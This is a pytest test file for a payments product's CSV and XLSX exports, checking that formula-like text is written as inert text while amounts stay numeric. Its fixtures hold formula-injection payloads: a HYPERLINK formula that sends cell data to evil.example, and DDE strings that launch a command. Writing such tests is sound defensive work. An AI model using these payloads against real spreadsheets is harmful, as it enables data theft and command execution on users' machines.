"""Spreadsheet formulas: every CSV and XLSX file the product hands out
writes text a spreadsheet would run (= + - @ tab CR) as text; amounts stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from zoneinfo import ZoneInfo

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from payments.exports import cell
from payments.models import StripeReportRun
from payments.reports import export as reports_export
from payments.reports import services as reports_services
from tests.factories import UserFactory
from tests.payments.payments_tab import payment_row

EVIL = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
CHICAGO = ZoneInfo("America/Chicago")
PAYMENTS = "/o/lakeside/payments/"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Brake service", "Brake service"),
        ("-12.34", "-12.34"),  # a negative amount stays a number
        ("+5", "+5"),
        (-1234, -1234),
        (None, None),
    ],
)
def test_the_cell_guard(value, written):
    assert cell(value) == written


@pytest.fixture
def evil_payment(ticket, organization):
    advisor = UserFactory(full_name="@SUM(1+1)*cmd|' /C calc'!A0")
    ticket.customer.name = "+SUM(1,1)"
    ticket.customer.save(update_fields=["name"])
    payment = payment_row(
        ticket,
        amount=50_000,
        at=datetime(2026, 11, 26, 10, 0, tzinfo=CHICAGO),
        description=EVIL,
        reference="-1+1",
        created_by=advisor,
        refunded_cents=0,
    )
    return payment


def _csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _no_formula_text(rows) -> None:
    for row in rows:
        for value in row:
            if isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r"):
                assert cell(value) == value, f"formula written as is: {value!r}"


def test_the_payments_csv_writes_no_formula(admin_client, evil_payment):
    response = admin_client.get(PAYMENTS + "export.csv")
    rows = _csv(b"".join(response.streaming_content).decode())
    _no_formula_text(rows)
    header, line = rows[0], rows[1]
    assert line[header.index("Description")] == "'" + EVIL
    assert "'+SUM(1,1)" in line and "'-1+1" in line
    assert any(v.startswith("'@SUM") for v in line)  # the advisor's name
    assert line[header.index("Gross")] == "500.00"


def test_the_payments_xlsx_writes_no_formula(admin_client, evil_payment):
    response = admin_client.get(PAYMENTS + "export.xlsx")
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook.active
    header = [c.value for c in sheet[1]]
    line = next(sheet.iter_rows(min_row=2, max_row=2))
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)  # no formula cell
    described = line[header.index("Description")]
    assert described.value == EVIL and described.data_type == "s"  # shown as typed
    assert line[header.index("Gross")].data_type == "n"


def test_the_payments_xlsx_keeps_formula_looking_text_as_text_when_edited(
    admin_client, evil_payment
):
    response = admin_client.get(PAYMENTS + "export.xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header = [c.value for c in sheet[1]]
    line = next(sheet.iter_rows(min_row=2, max_row=2))
    assert line[header.index("Description")].quotePrefix  # Excel's leading-apostrophe flag
    assert not line[header.index("Status")].quotePrefix  # plain text as it is


@pytest.fixture
def evil_report(organization, evil_payment):
    report, _built = reports_services.daily_report_build(
        organization=organization, day=date(2026, 11, 26)
    )
    return report


def test_the_daily_report_csv_writes_no_formula(evil_report):
    rows = _csv("".join(reports_export.report_csv_lines(evil_report, None)))
    _no_formula_text(rows)
    assert rows[1][rows[0].index("Description")] == "'" + EVIL


def test_the_daily_report_xlsx_writes_no_formula(evil_report):
    sheet = load_workbook(reports_export.report_xlsx(evil_report, None)).active
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    header = [c.value for c in sheet[1]]
    assert sheet.cell(row=2, column=header.index("Description") + 1).value == EVIL
    assert sheet.cell(row=2, column=header.index("Gross") + 1).data_type == "n"


def test_a_stripe_report_file_is_handed_out_without_formulas(manager_client, connected_account):
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(
        [["balance_transaction_id", "gross", "description"], ["txn_1", "-12.34", EVIL]]
    )
    stripe_file = out.getvalue()
    run = StripeReportRun.objects.create(
        organization=connected_account.organization,
        report_type="balance_change_from_activity.itemized.3",
        interval_start=datetime(2026, 11, 1, 5, tzinfo=UTC),
        interval_end=datetime(2026, 11, 2, 5, tzinfo=UTC),
        status=StripeReportRun.Status.SUCCEEDED,
        content=stripe_file,
        file_name="r.csv",
    )
    response = manager_client.get(
        reverse("stripe_report_download", kwargs={"org": "lakeside", "pk": run.pk})
    )
    rows = _csv(response.content.decode())
    assert rows[1] == ["txn_1", "-12.34", "'" + EVIL]
